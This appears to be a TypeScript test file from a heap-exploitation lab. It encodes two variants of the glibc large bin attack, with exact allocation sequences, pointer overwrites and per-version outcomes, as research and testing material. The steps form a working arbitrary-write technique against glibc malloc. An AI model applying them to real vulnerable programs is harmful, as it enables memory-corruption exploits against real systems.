/**
 * large_bin_attack: corrupt the nextsize links of a chunk in a large bin; inserting another
 * chunk into that bin writes the new chunk's address through them (a heap address written to
 * an arbitrary place).
 *
 * The glibc 2.30+ program targets the one insertion path that is still unchecked: a chunk
 * smaller than every chunk in the bin, which writes `victim` into `fwd->fd->bk_nextsize->
 * fd_nextsize`. The older program overwrote bk and bk_nextsize of a larger chunk and
 * inserted in the middle of the bin, which 2.30 stopped with the nextsize check.
 */

import assert from "node:assert/strict";
import { GLIBC_VERSIONS, type Lab, on, technique, versionsWhere } from "./support.ts";

technique({
  name: "large_bin_attack",
  claim: "inserting a smaller chunk writes its address to a target",
  outcomes: {
    ...on(GLIBC_VERSIONS, "works"),
    // 2.42+ also checks the nextsize links when the sorted chunk is the bin's smallest (seen
    // in real 2.43 and 2.44 runs of how2heap's large_bin_attack.c).
    ...on(versionsWhere((p) => p.largebinSmallestCheck), {
      aborts: "malloc(): largebin double linked list corrupted (nextsize)",
      in: "malloc",
    }),
  },
  run(lab: Lab) {
    const h = lab.heap, sz = lab.sz;
    const target = lab.global();
    const p1 = h.malloc(0x428);
    h.malloc(0x18);
    const p2 = h.malloc(0x418); // smaller than p1, same large bin
    h.malloc(0x18);
    h.free(p1);
    h.malloc(0x438); // sorts p1 into its large bin
    h.free(p2);
    assert.deepEqual(h.bins().unsorted.chunks, [lab.chunk(p2)]);
    lab.vulnerability();
    lab.setWord(p1, 3, target - 4 * sz); // p1->bk_nextsize = &target - 4 words
    h.malloc(0x438); // sorts p2 in, behind p1
    assert.equal(lab.read(target), lab.chunk(p2));
  },
});

technique({
  name: "large_bin_attack (before 2.30: bk and bk_nextsize)",
  claim: "inserting a larger chunk writes its address to two targets",
  arches: ["x86_64"],
  outcomes: {
    "2.23": "works",
    "2.27": "works",
    ...on(["2.31", "2.35", "2.36", "2.39", "2.41"], {
      aborts: "malloc(): largebin double linked list corrupted (nextsize)",
      in: "malloc",
    }),
  },
  run(lab: Lab) {
    const h = lab.heap, sz = lab.sz;
    const var1 = lab.global(0x100), var2 = lab.global(0x140);
    const p1 = h.malloc(0x420);
    h.malloc(0x20);
    const p2 = h.malloc(0x500);
    h.malloc(0x20);
    const p3 = h.malloc(0x500);
    h.malloc(0x20);
    h.free(p1);
    h.free(p2);
    h.malloc(0x90); // carved from p1; p2 goes to its large bin
    h.free(p3);
    // p2, in the large bin: a smaller size, and bk / bk_nextsize aimed at the targets.
    lab.vulnerability();
    lab.setWord(p2, -1, 0x3f1);
    lab.setWord(p2, 0, 0);
    lab.setWord(p2, 2, 0);
    lab.setWord(p2, 1, var1 - 2 * sz);
    lab.setWord(p2, 3, var2 - 4 * sz);
    h.malloc(0x90); // sorts p3 into the bin in front of p2
    assert.equal(lab.read(var1), lab.chunk(p3));
    assert.equal(lab.read(var2), lab.chunk(p3));
  },
});
